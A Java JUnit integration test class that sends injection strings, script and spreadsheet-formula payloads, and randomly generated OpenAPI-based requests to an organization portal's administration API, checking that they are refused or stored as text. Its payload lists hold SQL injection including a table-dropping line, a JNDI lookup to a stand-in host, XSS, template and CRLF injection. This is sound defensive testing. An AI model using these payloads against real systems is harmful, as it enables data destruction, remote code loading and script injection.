package io.github.orgportal.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.github.orgportal.tests.Api.Answer;
import io.github.orgportal.tests.Api.Caller;
import io.github.orgportal.tests.OpenApi.Route;
import io.github.orgportal.tests.Portal.Account;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

/** Strange requests: whatever is sent, the API answers with a refusal or with what was asked for, never with an error of its own. */
class AdministrationAttackIT {
    private static final List<String> STRANGE = List.of(
            "' or '1'='1",
            "'; drop table PORTAL_MEMBERSHIP; --",
            "\" or \"\"=\"",
            "%",
            "_",
            "!",
            "!%",
            "\\",
            "\\'",
            "%' escape '!' or 1=1 --",
            ") or 1=1 --",
            "1; select pg_sleep(5)",
            "name,(select 1)",
            "name; --",
            "lower(name)",
            "-name desc, PASSWORD",
            "${jndi:ldap://x.example/a}",
            "#{7*7}",
            "{{7*7}}",
            "\u0000",
            "a\u0000b",
            "\uD800",
            "\u202Egnp.exe",
            "a\r\nSet-Cookie: x=1",
            "9".repeat(40),
            "-1",
            "0x10",
            "1e9",
            "null",
            "[]",
            "ä".repeat(200),
            "\uD83D\uDE00".repeat(30));

    private static final List<String> PAYLOADS = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg onload=alert(1)>",
            "javascript:alert(1)",
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(A1)",
            "\t=1+1",
            "=HYPERLINK(\"https://x.example\")",
            "${7*7}",
            "{0}",
            "<#assign x=1>",
            "<b>fett</b>",
            "a;=1+1",
            "a\n=1+1",
            "';alert(1)//",
            "]]>",
            "&lt;script&gt;",
            "\u2028=1");

    private static Portal portal;
    private static String organization = "";
    private static Account clerk;
    private static Caller principal;
    private static Caller operator;
    private static String accounts = "";
    private static String application = "";

    @BeforeAll
    static void anOrganization() {
        portal = Portal.onPostgres();
        String realm = portal.unprotectedRealm(settings -> {
            settings.setPasswordPolicy(Portal.QUICK_HASH);
            settings.setAccessTokenLifespan(3600);
        });
        Api api = Api.of(portal, realm);
        Api.policy(portal, realm, "mailsPerHour", "100000");
        Api.policy(portal, realm, "passwordLooksPerHour", "100000");
        Domain domain = portal.domain(realm);
        organization = domain.organization();
        Account person = portal.account(realm);
        domain.member(organization, person, "principal-administrator");
        domain.member(organization, portal.account(realm), "principal-administrator");
        clerk = portal.account(realm);
        domain.member(organization, clerk, "clerk");
        principal = api.caller(person);
        Account staff = portal.account(realm);
        portal.realm(realm)
                .users()
                .get(staff.id())
                .roles()
                .realmLevel()
                .add(List.of(portal.realm(realm).roles().get("portal-operator").toRepresentation()));
        operator = api.caller(staff);
        application = Applicant.of("4711")
                .enteredBy(operator)
                .expect(201)
                .json()
                .path("application")
                .path("id")
                .asText();
        accounts = "/organizations/" + organization + "/accounts";
    }

    @Test
    @DisplayName(
            "A-1 what stands in sort, filter and search is compared, never run: nothing more is found than without it")
    void injections() {
        int all = principal.get(accounts).expect(200).json().path("total").asInt();
        int sent = 0;
        for (String strange : STRANGE) {
            for (String parameter :
                    List.of("search", "name", "loginName", "email", "sort", "unit", "mailbox", "status", "first")) {
                Answer answer = principal.get(accounts + "?" + parameter + "=" + encoded(strange));
                assertTrue(
                        answer.status() == 400 || answer.json().path("total").asInt() < all,
                        () -> parameter + " " + strange + ": " + answer.body());
                sent++;
            }
        }
        System.out.printf("%d injections: compared or refused%n", sent);
    }

    @Test
    @DisplayName("G-2 scripts and formulas in names and reasons stay text: in JSON, and behind an apostrophe in CSV")
    void payloads() {
        int accepted = 0;
        int refused = 0;
        for (int n = 0; n < PAYLOADS.size(); n++) {
            for (String field : List.of("firstName", "lastName", "email", "phone")) {
                Map<String, String> body = new HashMap<>(Map.of(
                        "firstName", "Kim", "lastName", "B", "email", "last%d%s@firma.example".formatted(n, field)));
                body.put(field, PAYLOADS.get(n));
                Answer answer = principal.post(accounts, body);
                assertTrue(answer.status() == 201 || answer.status() == 400, answer::body);
                assertTrue(answer.header("Content-Type").contains("json"), answer::body);
                if (answer.status() == 201) {
                    accepted++;
                } else {
                    refused++;
                }
            }
            principal
                    .post(accounts + "/" + clerk.id() + "/lock", Map.of("reason", PAYLOADS.get(n)))
                    .expect(200);
            principal.post(accounts + "/" + clerk.id() + "/unlock", "").expect(200);
        }
        for (String path : List.of(accounts + "/export", "/organizations/" + organization + "/changes/export")) {
            Answer csv = principal.get(path).expect(200);
            assertTrue(csv.header("Content-Disposition").startsWith("attachment"));
            csv.body()
                    .lines()
                    .flatMap(line -> List.of(line.split(",")).stream())
                    .forEach(cell -> {
                        String shown = cell.startsWith("\"") ? cell.substring(1) : cell;
                        assertFalse(shown.matches("[=+@\\-].*") && !shown.matches("-?\\d+"), cell);
                    });
        }
        System.out.printf(
                "%d payloads: %d kept as text, %d refused%n", PAYLOADS.size() * 5, accepted + PAYLOADS.size(), refused);
    }

    @Test
    @DisplayName(
            "requests made after docs/openapi.yaml, right and wrong ones, are answered and never end in an error of the server")
    void generated() {
        // these two would end the campaign for everybody after them
        List<Route> routes = OpenApi.routes().stream()
                .filter(route -> !Set.of("lockAccount", "changeRestrictions").contains(route.operation()))
                .toList();
        JsonNode schemas = OpenApi.document().path("components").path("schemas");
        Random random = new Random(20260101);
        Map<Integer, Integer> statuses = new TreeMap<>();
        int most = Campaign.of(10_000);
        for (int n = 0; n < most; n++) {
            Route route = routes.get(random.nextInt(routes.size()));
            Caller caller = random.nextInt(3) == 0 ? operator : principal;
            Generated request = new Generated(route, schemas, random);
            Answer answer = caller.send(
                    route.method(),
                    request.path(),
                    request.body(),
                    Map.of("If-Match", "\"x\"", "Content-Type", route.contentType()));
            assertTrue(
                    answer.status() < 500,
                    () -> route + " " + request.path() + " " + request.body() + ": " + answer.status() + " "
                            + answer.body());
            statuses.merge(answer.status(), 1, Integer::sum);
        }
        System.out.printf("%d generated requests: %s%n", most, statuses);
        assertTrue(statuses.getOrDefault(200, 0) > 0 && statuses.getOrDefault(400, 0) > 0, statuses::toString);
        assertEquals(200, principal.get(accounts).status(), "the server is still there");
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    /** A request to a route with whatever its description allows, and what it does not. */
    private static final class Generated {
        private static final Pattern PARAMETER = Pattern.compile("\\{(\\w+)}");

        private final Route route;
        private final JsonNode schemas;
        private final Random random;
        private final String path;
        private final String body;

        Generated(Route route, JsonNode schemas, Random random) {
            this.route = route;
            this.schemas = schemas;
            this.random = random;
            this.path = PARAMETER
                            .matcher(route.path())
                            .replaceAll(found -> Matcher.quoteReplacement(segment(found.group(1))))
                    + query();
            this.body = route.hasBody() ? json() : "";
        }

        private String segment(String parameter) {
            return switch (parameter) {
                case "organization" -> random.nextInt(5) == 0 ? encodedText() : organization;
                case "account" -> random.nextInt(3) == 0 ? encodedText() : clerk.id();
                case "application" -> random.nextInt(3) == 0 ? encodedText() : application;
                default -> encodedText();
            };
        }

        String path() {
            return path;
        }

        String body() {
            return body;
        }

        private String query() {
            List<String> parameters = new ArrayList<>();
            route.described().path("parameters").forEach(parameter -> {
                if (parameter.path("in").asText().equals("query") && random.nextBoolean()) {
                    parameters.add(parameter.path("name").asText() + "=" + encodedText());
                }
            });
            return parameters.isEmpty() ? "" : "?" + String.join("&", parameters);
        }

        private String json() {
            JsonNode schema = route.described()
                    .path("requestBody")
                    .path("content")
                    .path(route.contentType())
                    .path("schema");
            Object value = random.nextInt(8) == 0 ? anything() : value(schema, 0);
            String text = value instanceof String plain && route.contentType().equals("text/csv") ? plain : text(value);
            return random.nextInt(20) == 0 ? text.substring(0, text.length() / 2) + "{" : text;
        }

        private static String text(Object value) {
            try {
                return org.keycloak.util.JsonSerialization.writeValueAsString(value);
            } catch (java.io.IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        }

        private Object value(JsonNode schema, int depth) {
            if (random.nextInt(10) == 0 || depth > 5) {
                return anything();
            }
            if (schema.has("$ref")) {
                String reference = schema.path("$ref").asText();
                return value(schemas.path(reference.substring(reference.lastIndexOf('/') + 1)), depth + 1);
            }
            JsonNode type = schema.path("type");
            return switch (type.isArray() ? type.get(0).asText() : type.asText()) {
                case "object" -> {
                    Map<String, Object> fields = new LinkedHashMap<>();
                    schema.path("properties").properties().forEach(field -> {
                        if (random.nextInt(4) > 0) {
                            fields.put(field.getKey(), value(field.getValue(), depth + 1));
                        }
                    });
                    yield fields;
                }
                case "array" -> {
                    List<Object> items = new ArrayList<>();
                    for (int i = random.nextInt(3); i > 0; i--) {
                        items.add(value(schema.path("items"), depth + 1));
                    }
                    yield items;
                }
                case "boolean" -> random.nextBoolean();
                case "integer", "number" -> random.nextLong();
                default -> string();
            };
        }

        private Object anything() {
            return switch (random.nextInt(5)) {
                case 0 -> Map.of(string(), List.of(1, string()));
                case 1 -> random.nextLong();
                case 2 -> List.of(string(), true);
                case 3 -> random.nextBoolean();
                default -> string();
            };
        }

        private String string() {
            return switch (random.nextInt(4)) {
                case 0 -> STRANGE.get(random.nextInt(STRANGE.size())).replace("\uD800", "x");
                case 1 -> PAYLOADS.get(random.nextInt(PAYLOADS.size()));
                case 2 ->
                    List.of(
                                    "clerk",
                                    "name",
                                    "view-contract",
                                    "group-life",
                                    "ACTIVE",
                                    "true",
                                    "employer",
                                    "10",
                                    "kim@firma.example")
                            .get(random.nextInt(9));
                default -> Long.toString(random.nextLong(), 36);
            };
        }

        private String encodedText() {
            return encoded(string()).replace("+", "%20");
        }
    }
}
